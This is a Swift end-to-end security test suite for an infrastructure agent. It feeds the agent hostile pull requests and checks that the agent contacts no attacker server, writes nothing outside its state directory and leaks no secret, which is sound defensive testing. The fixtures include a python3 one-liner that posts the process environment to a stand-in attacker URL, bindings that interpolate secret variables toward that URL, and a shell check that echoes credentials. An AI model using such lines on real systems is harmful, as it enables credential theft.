import Foundation
import PlumbTestSupport
import Testing

extension EndToEnd {
    /// SPEC §8.1, tried as an attacker would: pull requests against a real agent holding
    /// (fake) secrets, a listener standing in for the attacker's server, a fake forge.
    @Suite("trust boundaries: hostile pull requests against a real agent")
    struct HostilePullRequestTests {
        /// Fake secrets planted in the agent's environment; the webhook secret is AgentProcess's.
        static let secrets: [String: String] = [
            "AWS_ACCESS_KEY_ID": "AKIAFAKEHOSTILE0001",
            "AWS_SECRET_ACCESS_KEY": "fake-aws-secret-7f3c9e1b2d",
            "AWS_SESSION_TOKEN": "fake-aws-session-4e8a0c91",
            "PDNS_API_KEY": "fake-pdns-key-5d6e7f08",
            "PLUMB_GITHUB_TOKEN": "fake-forge-token-91b2c3d4",
        ]
        static var secretValues: [String] { Array(secrets.values) + [AgentProcess.secret] }

        func exampleRepository() throws -> GitFixture {
            let fixture = try GitFixture()
            for item in ["plumb.yaml", "Providers", "Desired", "scripts"] {
                try FileManager.default.copyItem(
                    at: PlumbProcess.projectRoot.appendingPathComponent(item), to: fixture.url.appendingPathComponent(item))
            }
            try fixture.commit("Example desired state")
            return fixture
        }

        /// The secrets whose bytes appear in `data`.
        static func leaked(_ data: Data) -> [String] {
            secretValues.filter { data.range(of: Data($0.utf8)) != nil }
        }

        /// Every file under `directory` that holds a secret's bytes, with the secrets.
        static func leakingFiles(under directory: URL) throws -> [String] {
            var found: [String] = []
            for file in try FileManager.default.subpathsOfDirectory(atPath: directory.path) {
                let url = directory.appendingPathComponent(file)
                var isDirectory: ObjCBool = false
                guard FileManager.default.fileExists(atPath: url.path, isDirectory: &isDirectory), !isDirectory.boolValue,
                    let data = FileManager.default.contents(atPath: url.path)
                else { continue }
                let secrets = leaked(data)
                if !secrets.isEmpty { found.append("\(file): \(secrets)") }
            }
            return found
        }

        /// What the agent serves, for a leak scan.
        static func served(_ agent: AgentProcess, plans: [String]) async throws -> Data {
            var served = Data()
            for path in ["/status", "/runs", "/runs/1", "/runs/2", "/metrics", "/"] + plans.map({ "/plans/\($0)" }) {
                served += try await agent.get(path).body
            }
            return served
        }

        func waitForPlan(_ agent: AgentProcess, _ id: String) async throws -> String {
            let deadline = Date().addingTimeInterval(120)
            while Date() < deadline {
                let response = try await agent.get("/plans/\(id)")
                if response.status == 200 { return response.text }
                try await Task.sleep(for: .milliseconds(100))
            }
            return ""
        }

        struct Hostile {
            var name: String
            var files: [String: String]
            /// What the review plan must name.
            var named: [String]
        }

        @Test("a hostile request reaches no server, writes nothing outside --state, leaks no secret, and its review names what it changes")
        func hostileRequests() async throws {
            let listener = try AttackerListener()
            let forge = try FakeForge()
            let fixture = try exampleRepository()
            let work = try TempRepo.empty()
            let state = work.url.appendingPathComponent("state")
            let outside = work.url.appendingPathComponent("outside")
            var environment = Self.secrets
            environment["PLUMB_GITHUB_API_URL"] = forge.url
            let agent = try AgentProcess(repo: fixture.url, state: state, environment: environment)
            let head = try fixture.git("rev-parse", "HEAD")
            _ = try await agent.waitForStatus { $0["last_applied_commit"] as? String == head }

            let every = "${AWS_ACCESS_KEY_ID}:${AWS_SECRET_ACCESS_KEY}:${AWS_SESSION_TOKEN}:${PDNS_API_KEY}"
            let checks = try String(contentsOf: fixture.url.appendingPathComponent("Desired/checks.yaml"), encoding: .utf8)
            let settings = try String(contentsOf: fixture.url.appendingPathComponent("plumb.yaml"), encoding: .utf8)
            let cases = [
                Hostile(
                    name: "rewrites a binding to the attacker's server",
                    files: [
                        "Providers/dns.yaml":
                            "kind: powerdns\nurl: \(listener.url)\napi_key: ${AWS_SECRET_ACCESS_KEY}\nserver: ${PLUMB_WEBHOOK_SECRET}\n"
                    ], named: ["Providers/dns.yaml", "needs a binding review", "+url: \(listener.url)"]),
                Hostile(
                    name: "interpolates every secret variable into a new binding",
                    files: [
                        "Providers/steal.yaml":
                            "kind: powerdns\nurl: \(listener.url)/\(every)\napi_key: \(every)\nserver: ${PLUMB_GITHUB_TOKEN}-${PLUMB_WEBHOOK_SECRET}\n",
                        "Desired/dns/steal.yaml": "provider: steal\nzone: steal.example.\nrecords:\n  www: {type: A, value: 192.0.2.1}\n",
                    ], named: ["Providers/steal.yaml", "(added)", "needs a binding review"]),
                Hostile(
                    name: "points an embedded path outside --state",
                    files: [
                        "Providers/dns.yaml": "kind: embedded\npath: \(outside.path)/deep/evil.sqlite\n"
                    ], named: ["Providers/dns.yaml", "needs a binding review"]),
                Hostile(
                    name: "adds a check that sends its environment away",
                    files: [
                        "Desired/checks.yaml": checks + """
                              leak:
                                command: [python3, -c, "import os, urllib.request; urllib.request.urlopen('\(listener.url)', data=repr(dict(os.environ)).encode())"]

                            """
                    ], named: ["Checks this request adds", "`leak`", "added", "command", "urllib.request"]),
                Hostile(
                    name: "lifts plumb.yaml's safety limits",
                    files: [
                        "plumb.yaml": settings.replacingOccurrences(of: "max_deletes: 25", with: "max_deletes: 100000")
                            .replacingOccurrences(of: "max_delete_percent: 30", with: "max_delete_percent: 100")
                    ], named: ["plumb.yaml", "needs a binding review", "+  max_deletes: 100000"]),
            ]
            for (index, hostile) in cases.enumerated() {
                let number = "\(100 + index)"
                try fixture.git("checkout", "-q", "-b", "hostile-\(number)", "main")
                for (path, text) in hostile.files { try fixture.write(path, text) }
                let prHead = try fixture.commit(hostile.name)
                try fixture.git("checkout", "-q", "main")
                let body =
                    #"{"action":"opened","number":\#(number),"pull_request":{"number":\#(number),"head":{"sha":"\#(prHead)","ref":"hostile-\#(number)"},"base":{"ref":"main"}},"repository":{"full_name":"acme/infra"}}"#
                #expect(try await agent.github("pull_request", body).status == 202)
                let plan = try await waitForPlan(agent, number)
                for text in hostile.named { #expect(plan.contains(text), "\(hostile.name): the review plan does not name \(text):\n\(plan)") }
                var comments = try await forge.snapshot()
                let deadline = Date().addingTimeInterval(60)
                while comments.comments.count <= index, Date() < deadline {
                    try await Task.sleep(for: .milliseconds(100))
                    comments = try await forge.snapshot()
                }
                // A moment for anything the request could have set off to arrive.
                try await Task.sleep(for: .milliseconds(500))
                #expect(
                    listener.received.isEmpty,
                    "\(hostile.name): the attacker's server received \(String(decoding: listener.received.prefix(500), as: UTF8.self))")
                #expect(!FileManager.default.fileExists(atPath: outside.path), "\(hostile.name): created \(outside.path)")
                // What the forge was sent, less the Authorization header its own token belongs in.
                let sent = comments.log.map { $0.filter { $0.key != "auth" } }
                let forgeText = try JSONSerialization.data(withJSONObject: ["log": sent, "comments": comments.comments])
                #expect(Self.leaked(forgeText).isEmpty, "\(hostile.name): the forge received \(Self.leaked(forgeText))")
                #expect(comments.comments.contains { ($0["body"] as? String)?.contains(hostile.named[0]) == true })
                let served = try await Self.served(agent, plans: [number])
                #expect(Self.leaked(served).isEmpty, "\(hostile.name): served \(Self.leaked(served))")
                let foundState = try Self.leakingFiles(under: state)
                #expect(foundState.isEmpty, "\(foundState)")
                let status = try await agent.json("/status")
                #expect(status["last_applied_commit"] as? String == head, "\(hostile.name): something of the request was applied")
            }
            #expect(agent.stop() == 0)
            #expect(try Self.leakingFiles(under: state).isEmpty)
        }

        @Test("a merged check that fails: its output reaches /runs, the logs and the history, every secret redacted")
        func mergedCheckRedacted() async throws {
            let fixture = try exampleRepository()
            let work = try TempRepo.empty()
            let state = work.url.appendingPathComponent("state")
            let agent = try AgentProcess(repo: fixture.url, state: state, environment: Self.secrets)
            let head = try fixture.git("rev-parse", "HEAD")
            _ = try await agent.waitForStatus { $0["last_applied_commit"] as? String == head }
            let checks = try String(contentsOf: fixture.url.appendingPathComponent("Desired/checks.yaml"), encoding: .utf8)
            try fixture.write(
                "Desired/checks.yaml",
                checks + """
                      leak:
                        after: dns.record/*
                        env: [AWS_SECRET_ACCESS_KEY, PLUMB_GITHUB_TOKEN]
                        command: [sh, -c, "env; echo \\"hook=${PLUMB_WEBHOOK_SECRET:-unset} pdns=${PDNS_API_KEY:-unset}\\"; echo \\"LEAKED aws=$AWS_SECRET_ACCESS_KEY forge=$PLUMB_GITHUB_TOKEN\\"; exit 1"]
                        timeout: 1s

                    """)
            let url = fixture.url.appendingPathComponent("Desired/dns/example.com.yaml")
            let zone = try String(contentsOf: url, encoding: .utf8)
            try fixture.write("Desired/dns/example.com.yaml", zone.replacingOccurrences(of: "value: 198.51.100.25", with: "value: 198.51.100.35"))
            let next = try fixture.commit("A check that prints its environment")
            #expect(try await agent.github("push", #"{"ref":"refs/heads/main","after":"\#(next)"}"#).status == 202)
            let status = try await agent.waitForStatus { ($0["last_run"] as? [String: Any])?["status"] as? String == "failed" }
            #expect((status["last_run"] as? [String: Any])?["status"] as? String == "failed", "\(status)")
            let runs = (try JSONSerialization.jsonObject(with: try await agent.get("/runs").body)) as? [[String: Any]] ?? []
            let run = try await agent.get("/runs/\(runs.first?["id"] as? Int ?? 0)").text
            #expect(run.contains("LEAKED aws=*** forge=***"), "the check's output did not reach /runs redacted: \(run)")
            #expect(run.contains("hook=unset pdns=unset"), "the check saw variables it did not ask for: \(run)")
            let served = try await Self.served(agent, plans: [])
            #expect(Self.leaked(served).isEmpty, "served \(Self.leaked(served))")
            #expect(agent.stop() == 0)
            let log = (try? String(contentsOf: state.appendingPathComponent("agent.log"), encoding: .utf8)) ?? ""
            #expect(log.contains("LEAKED aws=*** forge=***"), "the logs lack the check's output")
            // The history: the database and, if not yet checkpointed, its write-ahead log.
            let history = ["state.sqlite", "state.sqlite-wal"].compactMap {
                FileManager.default.contents(atPath: state.appendingPathComponent($0).path)
            }
            .reduce(Data(), +)
            #expect(history.range(of: Data("LEAKED aws=*** forge=***".utf8)) != nil, "the history lacks the check's output")
            let foundState = try Self.leakingFiles(under: state)
            #expect(foundState.isEmpty, "\(foundState)")
        }

        @Test("--require-reviewed-plan: an unreviewed head stays held for five polls; a matching request review lets it through, once")
        func heldUntilReviewed() async throws {
            let fixture = try exampleRepository()
            let work = try TempRepo.empty()
            let state = work.url.appendingPathComponent("state")
            let agent = try AgentProcess(
                arguments: ["--repo", fixture.url.path, "--interval", "1s", "--drift-interval", "600s", "--require-reviewed-plan"],
                state: state)
            let head = try fixture.git("rev-parse", "HEAD")
            _ = try await agent.waitForStatus { $0["held"] as? String == head }
            // Five poll intervals and more: still held, nothing run.
            try await Task.sleep(for: .seconds(6))
            var status = try await agent.json("/status")
            #expect(status["held"] as? String == head)
            #expect(status["last_applied_commit"] is NSNull || status["last_applied_commit"] == nil, "applied without a review: \(status)")
            var runs = (try JSONSerialization.jsonObject(with: try await agent.get("/runs").body)) as? [[String: Any]] ?? []
            #expect(runs.isEmpty)

            try fixture.git("branch", "reviewed", head)
            let body = #"{"action":"opened","number":7,"pull_request":{"number":7,"head":{"sha":"\#(head)","ref":"reviewed"},"base":{"ref":"main"}}}"#
            #expect(try await agent.github("pull_request", body).status == 202)
            status = try await agent.waitForStatus { $0["last_applied_commit"] as? String == head }
            #expect(status["last_applied_commit"] as? String == head)
            try await Task.sleep(for: .seconds(3))
            runs = (try JSONSerialization.jsonObject(with: try await agent.get("/runs").body)) as? [[String: Any]] ?? []
            #expect(runs.count == 1, "applied once: \(runs.count) runs")
            #expect(agent.stop() == 0)
        }
    }
}
